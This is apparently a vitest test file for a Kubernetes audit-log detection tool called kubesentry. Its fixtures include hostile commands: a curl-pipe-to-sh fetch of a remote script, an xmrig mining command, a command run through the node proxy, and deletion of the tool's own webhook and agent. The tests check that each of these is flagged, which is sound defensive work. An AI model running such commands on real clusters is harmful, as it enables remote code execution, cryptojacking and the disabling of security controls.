import { beforeAll, describe, expect, it } from 'vitest';
import { LABEL, SYSTEM_NAMESPACE } from '../../../api/names.ts';
import { compareSeverity } from '../../../api/weight.ts';
import type { Indicators } from '../../../detection/indicators.ts';
import { loadIndicators } from '../../../detection/load.ts';
import type { Fact } from '../../../webhook/audit/fact.ts';
import { AuditRules } from '../../../webhook/audit/rules.ts';
import { PodIndex } from '../../../webhook/pod-index.ts';
import { anonymousAttack } from './attack.ts';
import { benignDay } from './benign-day.ts';
import { ANONYMOUS, controller, fact, MINER, MINUTE, NOON, serviceAccount, write } from './facts.ts';

let indicators: Indicators;
beforeAll(async () => {
  indicators = await loadIndicators();
});

function judged(facts: readonly Fact[], pods = new PodIndex(), rules = new AuditRules()) {
  return facts.flatMap((each) => rules.evaluate(each, { indicators, pods }));
}

const said = (facts: readonly Fact[], pods?: PodIndex) =>
  judged(facts, pods).map(({ rule, severity }) => `${rule}: ${severity}`);

const rbac = { group: 'rbac.authorization.k8s.io', namespace: '' };
const exec = (command: string[], rest: Parameters<typeof fact>[0] = {}) =>
  fact({ verb: 'get', code: 101, command, ...rest, target: { subresource: 'exec', ...rest.target } });

describe('anonymous-allowed', () => {
  it('speaks up when somebody without a credential is let in', () => {
    const target = { resource: 'secrets', namespace: '', name: '' };
    expect(said([fact({ actor: ANONYMOUS, verb: 'list', code: 200, target })])).toEqual([
      'anonymous-allowed: high',
    ]);
    expect(said([fact({ actor: ANONYMOUS })])).toEqual(['anonymous-allowed: critical']);
  });

  it('is quiet about health checks, refusals and what joining nodes read', () => {
    expect(
      said([
        fact({ actor: ANONYMOUS, verb: 'get', target: { resource: '', namespace: '', name: '' } }),
        fact({ actor: ANONYMOUS, verb: 'list', code: 403, decision: 'forbid' }),
        fact({
          actor: ANONYMOUS,
          verb: 'get',
          target: { resource: 'configmaps', namespace: 'kube-public', name: 'cluster-info' },
        }),
      ]),
    ).toEqual([]);
  });
});

describe('powerful-grant', () => {
  const bind = (name: string, role: string, subjects: string, rest = {}) =>
    fact({
      target: { ...rbac, resource: 'clusterrolebindings', name },
      details: { role, subjects },
      ...rest,
    });

  it.each([
    ['x', 'cluster-admin', 'ServiceAccount/kube-system/kube-controller', 'high'],
    ['x', 'cluster-admin', 'Group/system:unauthenticated', 'critical'],
    ['x', 'view', 'User/system:anonymous', 'critical'],
    ['system:controller:kube-controller', 'edit', 'ServiceAccount/kube-system/kube-controller', 'high'],
    ['system:backdoor', 'edit', 'User/mallory', 'medium'],
  ])('speaks up about %s for %s to %s', (name, role, subjects, severity) => {
    expect(said([bind(name, role, subjects)])).toEqual([`powerful-grant: ${severity}`]);
  });

  it('is quiet about ordinary grants, refused ones and those of Kubernetes itself', () => {
    expect(
      said([
        bind('devs', 'edit', 'Group/devs'),
        bind('x', 'cluster-admin', 'User/mallory', { code: 403, decision: 'forbid' }),
        bind(
          'system:controller:job-controller',
          'system:controller:job-controller',
          'ServiceAccount/kube-system/job-controller',
          {
            actor: { user: 'system:apiserver', groups: ['system:masters'] },
          },
        ),
        bind('system:coredns', 'system:coredns', 'ServiceAccount/kube-system/coredns'),
        bind('info', 'system:public-info-viewer', 'Group/system:unauthenticated'),
      ]),
    ).toEqual([]);
  });
});

describe('exec-download', () => {
  it('speaks up about a fetched script and a miner, by whichever verb it came', () => {
    const script = ['sh', '-c', 'curl http://1.2.3.4/x.sh | sh'];
    expect(said([exec(script), exec(script, { verb: 'create' })])).toEqual([
      'exec-download: high',
      'exec-download: high',
    ]);
    expect(said([exec(['xmrig', '-o', 'pool.supportxmr.com:443'])])).toEqual(['exec-download: critical']);
  });

  it('is quiet about shells, probes and tools', () => {
    expect(
      said([
        exec(['sh', '-c', 'clear; (bash || ash || sh)']),
        exec(['curl', '-s', 'http://localhost:8080/health']),
        exec(['cilium', 'endpoint', 'list']),
        exec(['sh', '-c', 'curl http://203.0.113.9/x.sh | sh'], { code: 403, decision: 'forbid' }),
      ]),
    ).toEqual([]);
  });
});

describe('first-daemon-set', () => {
  const daemonSet = (actor: Parameters<typeof fact>[0]['actor'], name = 'x') =>
    write('DaemonSet', 'shop', name, MINER, { ...(actor && { actor }) });

  it('tells a service account that never deployed anything from a person', () => {
    expect(said([daemonSet(serviceAccount('shop', 'web'))])).toEqual(['first-daemon-set: medium']);
    expect(said([daemonSet({ user: 'alice' })])).toEqual(['first-daemon-set: low']);
  });

  it('is quiet about the second one and about controllers', () => {
    expect(said([daemonSet({ user: 'alice' }), daemonSet({ user: 'alice' }, 'y')])).toHaveLength(1);
    expect(said([daemonSet(controller('daemon-set-controller'))])).toEqual([]);
  });

  it('remembers what it learnt from history', () => {
    const rules = new AuditRules();
    rules.learn([daemonSet({ user: 'alice' })], { indicators, pods: new PodIndex() });
    expect(judged([daemonSet({ user: 'alice' }, 'y')], new PodIndex(), rules)).toEqual([]);
  });
});

describe('node-proxy', () => {
  const proxy = (rest: Parameters<typeof fact>[0]) =>
    fact({
      verb: 'get',
      code: 200,
      ...rest,
      target: { resource: 'nodes', subresource: 'proxy', namespace: '', name: 'worker-1' },
    });

  it('speaks up about everybody but monitoring, and about commands always', () => {
    expect(said([proxy({ actor: { user: 'alice' } })])).toEqual(['node-proxy: high']);
    const prometheus = serviceAccount('monitoring', 'prometheus-k8s');
    expect(said([proxy({ actor: prometheus })])).toEqual([]);
    expect(said([proxy({ actor: prometheus, command: ['id'] })])).toEqual(['node-proxy: critical']);
  });
});

describe('protection-changed', () => {
  const touch = (verb: string, target: Parameters<typeof fact>[0]['target'], rest = {}) =>
    fact({ verb, code: 200, ...(target && { target }), ...rest });
  const webhook = {
    group: 'admissionregistration.k8s.io',
    resource: 'validatingwebhookconfigurations',
    namespace: '',
    name: 'kubesentry',
  };

  it.each([
    ['delete', webhook, 'critical'],
    ['patch', webhook, 'high'],
    ['deletecollection', { ...webhook, name: '' }, 'critical'],
    [
      'delete',
      { group: 'apps', resource: 'daemonsets', namespace: SYSTEM_NAMESPACE, name: 'kubesentry-agent' },
      'critical',
    ],
    [
      'patch',
      {
        group: 'apps',
        resource: 'deployments',
        subresource: 'scale',
        namespace: SYSTEM_NAMESPACE,
        name: 'kubesentry-webhook',
      },
      'critical',
    ],
    [
      'delete',
      {
        group: 'apiextensions.k8s.io',
        resource: 'customresourcedefinitions',
        namespace: '',
        name: 'incidents.kubesentry.io',
      },
      'critical',
    ],
    [
      'update',
      { group: 'kubesentry.io', resource: 'sentrypolicies', namespace: SYSTEM_NAMESPACE, name: 'default' },
      'medium',
    ],
  ])('speaks up about %s of %o', (verb, target, severity) => {
    expect(said([touch(verb, target)])).toEqual([`protection-changed: ${severity}`]);
  });

  it('knows our label on a namespace from the others', () => {
    const namespace = { resource: 'namespaces', namespace: '', name: 'shop' };
    expect(said([touch('patch', namespace, { details: { labels: `team,${LABEL.quarantine}` } })])).toEqual([
      'protection-changed: high',
    ]);
    expect(said([touch('patch', namespace, { details: { labels: 'team' } })])).toEqual([]);
  });

  it('is quiet about ourselves and about the same kinds of others', () => {
    const ours = { actor: serviceAccount(SYSTEM_NAMESPACE, 'kubesentry-webhook') };
    expect(said([touch('patch', webhook, ours), touch('delete', { ...webhook, name: 'kyverno' })])).toEqual(
      [],
    );
  });

  it('says nothing about being installed by server-side apply', () => {
    expect(said([touch('patch', webhook, { code: 201 })])).toEqual([]);
  });

  it('keeps a refused try as one', () => {
    expect(said([touch('delete', webhook, { code: 403, decision: 'forbid' })])).toEqual([
      'protection-changed: medium',
    ]);
  });
});

describe('failed-open', () => {
  it('knows our webhooks from those of others', () => {
    expect(said([fact({ details: { failedOpen: 'deploy.kubesentry.io' } })])).toEqual(['failed-open: low']);
    expect(said([fact({ details: { failedOpen: 'validate.kyverno.svc' } })])).toEqual([]);
  });
});

describe('borrowed-token', () => {
  const index = () => {
    const pods = new PodIndex();
    for (const [name, podIP] of [
      ['web', '10.244.1.5'],
      ['api', '10.244.1.6'],
      ['job', '10.244.1.7'],
      ['new', undefined],
    ] as const) {
      pods.set({
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name, namespace: 'shop', uid: name },
        spec: { containers: [] },
        status: { ...(podIP && { podIP, hostIP: '10.0.1.1' }) },
      });
    }
    return pods;
  };
  const use = (podUid: string, address: string) =>
    fact({ verb: 'list', code: 200, address, actor: { ...serviceAccount('shop', podUid), podUid } });
  const proof = [use('web', '10.244.1.5'), use('web', '10.0.1.1'), use('api', '10.244.1.6')];

  it('speaks up about a token that comes from elsewhere', () => {
    expect(said([...proof, use('web', '203.0.113.66')], index())).toEqual(['borrowed-token: high']);
  });

  it('is quiet before tokens were seen to come from their own pods', () => {
    expect(said([use('web', '203.0.113.66')], index())).toEqual([]);
  });

  it('is quiet about unknown pods, pods without an address and the node', () => {
    expect(
      said(
        [...proof, use('gone', '203.0.113.66'), use('new', '203.0.113.66'), use('web', '10.0.1.1')],
        index(),
      ),
    ).toEqual([]);
  });

  it('takes an address that many pods share for a gateway', () => {
    const gateway = ['web', 'api', 'job'].map((pod) => use(pod, '192.0.2.1'));
    const after = [use('web', '192.0.2.1'), use('api', '192.0.2.1')];
    expect(said([...gateway, ...proof, ...after], index())).toEqual([]);
  });
});

describe('secrets-burst', () => {
  const read = (index: number, rest: Parameters<typeof fact>[0] = {}) =>
    fact({
      verb: 'get',
      code: 200,
      time: NOON + index * 1000,
      ...rest,
      target: { resource: 'secrets', namespace: `ns-${index}`, name: 'x', ...rest.target },
    });
  const many = (count: number, rest = {}) => Array.from({ length: count }, (_, index) => read(index, rest));

  it('speaks up once about more than ten within a minute', () => {
    expect(said(many(40))).toEqual(['secrets-burst: high']);
  });

  it('is quiet about ten, about slow readers, about one Secret again and again and about kubelets', () => {
    expect(said(many(10))).toEqual([]);
    expect(
      said(Array.from({ length: 40 }, (_, index) => read(index, { time: NOON + index * MINUTE }))),
    ).toEqual([]);
    expect(said(many(40, { target: { namespace: 'shop' } }))).toEqual([]);
    expect(said(many(40, { actor: { user: 'system:node:a', groups: ['system:nodes'] } }))).toEqual([]);
  });
});

it('says each thing once, however often the API server sends it', () => {
  const facts = anonymousAttack();
  const rules = new AuditRules();
  const first = judged(facts, new PodIndex(), rules);
  expect(first.map(({ rule }) => rule)).toEqual(
    expect.arrayContaining(['anonymous-allowed', 'powerful-grant']),
  );
  expect(judged(facts, new PodIndex(), rules)).toEqual([]);
});

it('has nothing above low to say about a day on which nothing happens', () => {
  const day = benignDay();
  expect(day.length).toBeGreaterThan(7000);
  const loud = judged(day).filter(({ severity }) => compareSeverity(severity, 'low') > 0);
  expect(loud.map(({ message }) => message)).toEqual([]);
});
